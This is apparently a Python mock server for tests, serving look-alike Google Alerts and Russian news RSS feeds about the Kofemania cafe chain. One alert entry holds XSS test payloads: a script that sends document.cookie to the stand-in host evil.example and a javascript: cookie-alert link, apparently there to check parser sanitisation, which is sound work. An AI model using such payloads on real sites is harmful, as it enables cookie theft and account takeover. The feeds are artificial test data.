"""Look-alikes of a Google Alerts Atom feed and of a news site's RSS 2.0 feed.

Google Alerts (`/alerts/feeds/{user}/{alert}`): entries with
`tag:google.com,2013:googlealerts/feed:{number}` ids, `title`/`content`
`type="html"` with escaped `<b>` around the matched words (one entry escapes
it twice), `&nbsp;...` at the end of the snippet, links through
`https://www.google.com/url?rct=j&sa=t&url=...&ct=ga&cd=...&usg=...`, an empty
`author/name`; one entry carries a `<script>` and a `javascript:` link, one
does not mention the company. Phase 2 updates entry A and adds a Finnish one.

RSS (`/rss/food.xml`): RFC 822 `pubDate`s in GMT, +0300 and -0000,
`dc:creator`, descriptions in CDATA, an item without a guid, a `javascript:`
link, an item that does not mention the company.

State `feed_mode`: "html" answers both URLs with an HTML page, "blocked" with
HTTP 403, "empty" serves the alert without entries.
"""

from __future__ import annotations

from urllib.parse import urlencode

USER, ALERT = "01234567890123456789", "11223344556677889900"
ALERTS_PATH = f"/alerts/feeds/{USER}/{ALERT}"
RSS_PATH = "/rss/food.xml"

PATRIKI = "https://moscow-food-news.example.ru/2026/03/12/kofemania-patriki?utm_source=alerts&id=7"


def google_link(url: str) -> str:
    query = urlencode({"rct": "j", "sa": "t", "url": url, "ct": "ga", "cd": "CAEYACoUMTE2NTE3MjM0NTIzMzYyNzEwMzU", "usg": "AOvVaw0xKq2"})
    return "https://www.google.com/url?" + query.replace("&", "&amp;")


def _entry(number: str, title: str, url: str, published: str, updated: str, content: str) -> str:
    return f"""<entry><id>tag:google.com,2013:googlealerts/feed:{number}</id><title type="html">{title}</title><link href="{google_link(url)}"></link><published>{published}</published><updated>{updated}</updated><content type="html">{content}</content><author><name></name></author></entry>"""


def alert_entries(phase: int) -> list[str]:
    veranda = "60" if phase >= 2 else "40"
    entries = [
        _entry(
            "11651723452336271035",
            "&lt;b&gt;Кофемания&lt;/b&gt; открыла кафе на Патриарших прудах",
            PATRIKI,
            "2026-03-12T08:15:00Z",
            "2026-03-13T10:00:00Z" if phase >= 2 else "2026-03-12T08:15:00Z",
            f"Сеть &lt;b&gt;Кофемания&lt;/b&gt; открыла 30-е кафе в Москве: завтраки весь день, веранда на {veranda} мест &amp;amp; десерты&amp;nbsp;...",
        ),
        _entry(
            "3418843002197741529",
            "&amp;lt;b&amp;gt;Kofemania&amp;lt;/b&amp;gt; Moscow review: great syrniki, slow service",
            "https://travel-notes.example.com/moscow/kofemania",
            "2026-03-11T19:40:12Z",
            "2026-03-11T19:40:12Z",
            "We waited 25 minutes at &amp;lt;b&amp;gt;Kofemania&amp;lt;/b&amp;gt; on Nikolskaya, but the syrniki were worth it&amp;nbsp;...",
        ),
        _entry(
            "9082231156612904417",
            "Отзывы о &lt;b&gt;Кофемании&lt;/b&gt;: &amp;laquo;пересолили суп&amp;raquo;",
            "javascript:alert(document.cookie)",
            "2026-03-10T06:05:00Z",
            "2026-03-10T06:05:00Z",
            "&lt;script&gt;document.location='https://evil.example/?c='+document.cookie&lt;/script&gt;"
            "Гость пишет: суп в &lt;b&gt;Кофемании&lt;/b&gt; пересолен, а в поле отзыва кто-то вставил &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;&amp;nbsp;...",
        ),
        _entry(
            "5566778899001122334",
            "&lt;b&gt;Кофе&lt;/b&gt;-мания: как выбрать зерно для турки",
            "https://coffee-blog.example.ru/turka",
            "2026-03-09T12:00:00Z",
            "2026-03-09T12:00:00Z",
            "Гид для начинающих: обжарка, помол и вода&amp;nbsp;...",
        ),
    ]
    if phase >= 2:
        entries.insert(0, _entry(
            "7788990011223344556",
            "Moskovalainen &lt;b&gt;Kofemania&lt;/b&gt; avaa kahvilan Helsinkiin",
            "https://ruoka-uutiset.example.fi/kofemania-helsinki",
            "2026-03-14T07:30:00Z",
            "2026-03-14T07:30:00Z",
            "Venäläinen kahvilaketju &lt;b&gt;Kofemania&lt;/b&gt; avaa ensimmäisen kahvilansa Helsingin keskustaan&amp;nbsp;...",
        ))
    return entries


def alerts_feed(phase: int, empty: bool) -> str:
    entries = "" if empty else "".join(alert_entries(phase))
    return (
        '<?xml version="1.0" encoding="utf-8"?>'
        '<feed xmlns="http://www.w3.org/2005/Atom" xmlns:idx="urn:atom-extension:indexing">'
        f"<id>tag:google.com,2005:reader/user/{USER}/state/com.google/alerts/{ALERT}</id>"
        "<title>Google Alert - Кофемания</title>"
        f'<link href="https://www.google.com/alerts/feeds/{USER}/{ALERT}" rel="self"></link>'
        "<updated>2026-03-14T07:30:00Z</updated>"
        f"{entries}</feed>"
    )


RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom">
<channel>
  <title>Вечерняя Москва — Еда</title>
  <link>https://vm-food.example.ru/</link>
  <description>Новости ресторанов и кафе Москвы</description>
  <language>ru</language>
  <atom:link href="https://vm-food.example.ru/rss/food.xml" rel="self" type="application/rss+xml"/>
  <item>
    <title>Кофемания подняла цены на капучино</title>
    <link>https://vm-food.example.ru/news/2026/03/10/kofemania-ceny</link>
    <guid isPermaLink="false">vm-food-48213</guid>
    <pubDate>Tue, 10 Mar 2026 04:00:00 GMT</pubDate>
    <dc:creator>Ирина Соколова</dc:creator>
    <description><![CDATA[<p>Сеть кафе <b>&laquo;Кофемания&raquo;</b> с 1 марта подняла цены на&nbsp;капучино на 10%.</p><p>Подробности — в материале.</p>]]></description>
  </item>
  <item>
    <title>Шаурма недели: где поесть у метро</title>
    <link>https://vm-food.example.ru/news/2026/03/10/shaurma</link>
    <guid isPermaLink="false">vm-food-48214</guid>
    <pubDate>Tue, 10 Mar 2026 08:00:00 GMT</pubDate>
    <description>Пять мест с честной шаурмой.</description>
  </item>
  <item>
    <title>Читатели жалуются на Кофеманию</title>
    <link>javascript:void(0)</link>
    <guid isPermaLink="false">vm-food-48220</guid>
    <pubDate>Wed, 11 Mar 2026 09:30:00 +0300</pubDate>
    <description>Письма читателей о сервисе в кафе.</description>
  </item>
  <item>
    <title>Kofemania ищет бариста</title>
    <link>https://vm-food.example.ru/news/2026/03/12/kofemania-vacancies</link>
    <pubDate>Thu, 12 Mar 2026 10:00:00 -0000</pubDate>
    <description>Сеть открывает 40 вакансий.</description>
  </item>
</channel>
</rss>"""

BROKEN = """<!DOCTYPE html>
<html lang="ru"><head><meta charset="utf-8"><title>Вечерняя Москва — страница переехала</title>
<script src="/static/app.js"></script></head>
<body><div class="page"><h1>Мы обновили сайт</h1><p>Новости еды теперь <a href="/eda/">здесь</a>.</p></div></body></html>"""


LEGACY_PATH = "/news/rss-1251.xml"
# A regional news site that still serves windows-1251, declared only in the XML prolog.
LEGACY_RSS = """<?xml version="1.0" encoding="windows-1251"?>
<rss version="2.0"><channel><title>Новости Тулы</title><link>https://tula-news.example.ru/</link>
<item><guid>tula-2026-03-10-1</guid><title>В Туле открылась «Кофемания»</title>
<link>https://tula-news.example.ru/2026/03/10/kofemania</link>
<description>Первое кафе сети &amp;mdash; на Советской улице. Ёлки, щи и сырники — всё как в Москве.</description>
<pubDate>Tue, 10 Mar 2026 09:00:00 +0300</pubDate></item>
</channel></rss>"""


def handle(request):
    mode = request.state.get("feed_mode")
    if request.path == LEGACY_PATH:
        return 200, {"Content-Type": "application/rss+xml"}, LEGACY_RSS.encode("windows-1251")
    if request.path not in (ALERTS_PATH, RSS_PATH):
        return 404, {"Content-Type": "text/html; charset=utf-8"}, b"<html><body>Not Found</body></html>"
    if mode == "blocked":
        return 403, {"Content-Type": "text/html; charset=utf-8"}, b"<html><body><h1>403 Forbidden</h1></body></html>"
    if mode == "html":
        return 200, {"Content-Type": "text/html; charset=utf-8"}, BROKEN.encode()
    if request.path == RSS_PATH:
        return 200, {"Content-Type": "application/rss+xml; charset=utf-8"}, RSS.encode()
    body = alerts_feed(request.state.get("phase", 1), empty=mode == "empty")
    return 200, {"Content-Type": "text/xml; charset=utf-8"}, body.encode()
